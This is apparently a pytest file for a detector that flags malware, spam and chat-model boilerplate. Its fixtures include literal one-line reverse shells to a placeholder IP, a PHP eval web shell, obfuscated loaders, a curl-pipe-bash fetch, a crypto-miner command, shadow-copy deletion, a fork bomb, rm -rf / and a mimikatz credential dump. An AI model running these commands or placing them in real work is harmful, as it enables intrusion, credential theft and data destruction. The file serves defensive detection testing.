"""Harmful code, spam and traces of chat models are found; what looks a little like them is not."""

from __future__ import annotations

import sysconfig
from pathlib import Path

import pytest

from undercroft.detect import find, score

STDLIB = Path(sysconfig.get_path("stdlib"))

MALICIOUS = {
    "dev-tcp": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
    "netcat": "nc 203.0.113.9 4444 -e /bin/sh",
    "duplicated-socket": (
        "s.connect(('203.0.113.9', 1)); os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])"
    ),
    "runs-what-it-is-sent": "<?php @eval($_POST['x']); ?>",
    "php": "eval(gzinflate(base64_decode('abc')));",
    "python": "exec(zlib.decompress(b'x'))",
    "javascript": "eval(atob('YWxlcnQ='))",
    "powershell": "powershell -nop -w hidden -enc " + "QQBB" * 20,
    "piped-from-a-bare-address": "curl -s http://203.0.113.9/i.sh | bash",
    "stratum": "./xmrig -o stratum+tcp://pool.example.org:3333",
    "backups": "vssadmin delete shadows /all /quiet",
    "fork-bomb": ":(){ :|:& };:",
    "root": "rm -rf --no-preserve-root /",
    "mimikatz": "mimikatz # sekurlsa::logonpasswords",
    "calls-the-system": "cposix\nsystem\n(S'id'\ntR.",
    "frame": '<iframe src="http://203.0.113.9/x" width="1" height="1"></iframe>',
    "reordered-code": "if access: # check \u202e }if(isAdmin) \u2066 begin",
}
HONEST_CODE = [
    "curl -fsSL https://example.org/install.sh | sh",
    "data = base64.b64decode(text)\nresult = json.loads(data)",
    "nc -zv localhost 5432",
    "exec(open('setup.py').read())",
    "const f = new Function('a', 'return a + 1');",
    "powershell -ExecutionPolicy Bypass -File build.ps1",
    "os.dup2(log.fileno(), 1)  # the child writes to the log",
    '<iframe src="https://www.example.org/embed/1" width="560" height="315"></iframe>',
    "rm -rf build/",
]


@pytest.mark.parametrize("rule", MALICIOUS)
def test_harmful_code_is_found_where_it_is(rule):
    text = f"Here is a line before it.\n\n{MALICIOUS[rule]}\n\nAnd one after it."
    found = [each for each in find(text, ("malware",)) if each.rule == rule]
    assert found
    assert text[found[0].start : found[0].end].strip() in MALICIOUS[rule]


@pytest.mark.parametrize("text", HONEST_CODE)
def test_honest_code_is_left_alone(text):
    assert find(text, ("malware",)) == []


def test_the_standard_library_is_honest():
    modules = sorted(STDLIB.glob("*.py"))
    assert len(modules) > 150
    suspected = [
        each.name for each in modules if find(each.read_text("utf-8", "replace"), ("malware",))
    ]
    assert suspected == []


SPAM = [
    "Buy cheap Viagra online without prescription! Order now, limited offer. Best online casino.",
    "Hot local singles near you. Free spins and a no deposit bonus at the best online casino!",
    "Cheap replica handbags, wholesale Rolex. 100% money-back guarantee. Act now, today only!",
    "Earn $500 per day from home! Make money fast with guaranteed returns, double your bitcoin.",
    "Custom essay writing service: buy an essay. We also sell dofollow backlinks and SEO packages.",
]
NO_SPAM = [
    "The pharmacy must not dispense sildenafil (Viagra) without a doctor's advice.",
    "The loan was repaid in 1893, and the bank guaranteed the rest of the town's debt.",
    "Python guarantees that the key function is called once; click here to read the manual.",
    "Casino Royale is a 1953 novel by Ian Fleming, and the first to feature James Bond.",
    "Search engines rank pages by many signals. An essay by Paul Graham describes one.",
    "The slot machine was invented in San Francisco; poker came with the river boats.",
]


def test_spam_scores_high_and_prose_about_it_low():
    scores = [[score(find(t, ("spam",)), "spam") for t in texts] for texts in (SPAM, NO_SPAM)]
    assert min(scores[0]) >= 0.8
    assert max(scores[1]) < 0.8


GENERATED = [
    "As an AI language model, I do not have personal opinions about tea.",
    "Certainly! Here is a short essay on the sea.\n\nThe sea is large.",
    "The sea is large. Let me know if you would like me to expand on any of these points!",
    "I'm sorry, but I cannot continue this story.",
    "As of my last knowledge update in 2023, the bridge was closed.",
    "The bridge was closed in 2020 turn0search3 and opened again.",
]
WRITTEN = [
    "AI models are trained on text. Language models predict the next word.",
    "Certainly the most beautiful view is that from the bridge.",
    "I am sorry, but I cannot come on Monday. Let me know if you need the keys.",
    "Would you like me to tell you how it ended?",
    "Dear [Name], thank you for your letter.",
]


def test_traces_of_chat_models_score_high_and_people_low():
    scores = [
        [score(find(text, ("generated",)), "generated") for text in texts]
        for texts in (GENERATED, WRITTEN)
    ]
    assert min(scores[0]) >= 0.7
    assert max(scores[1]) < 0.7
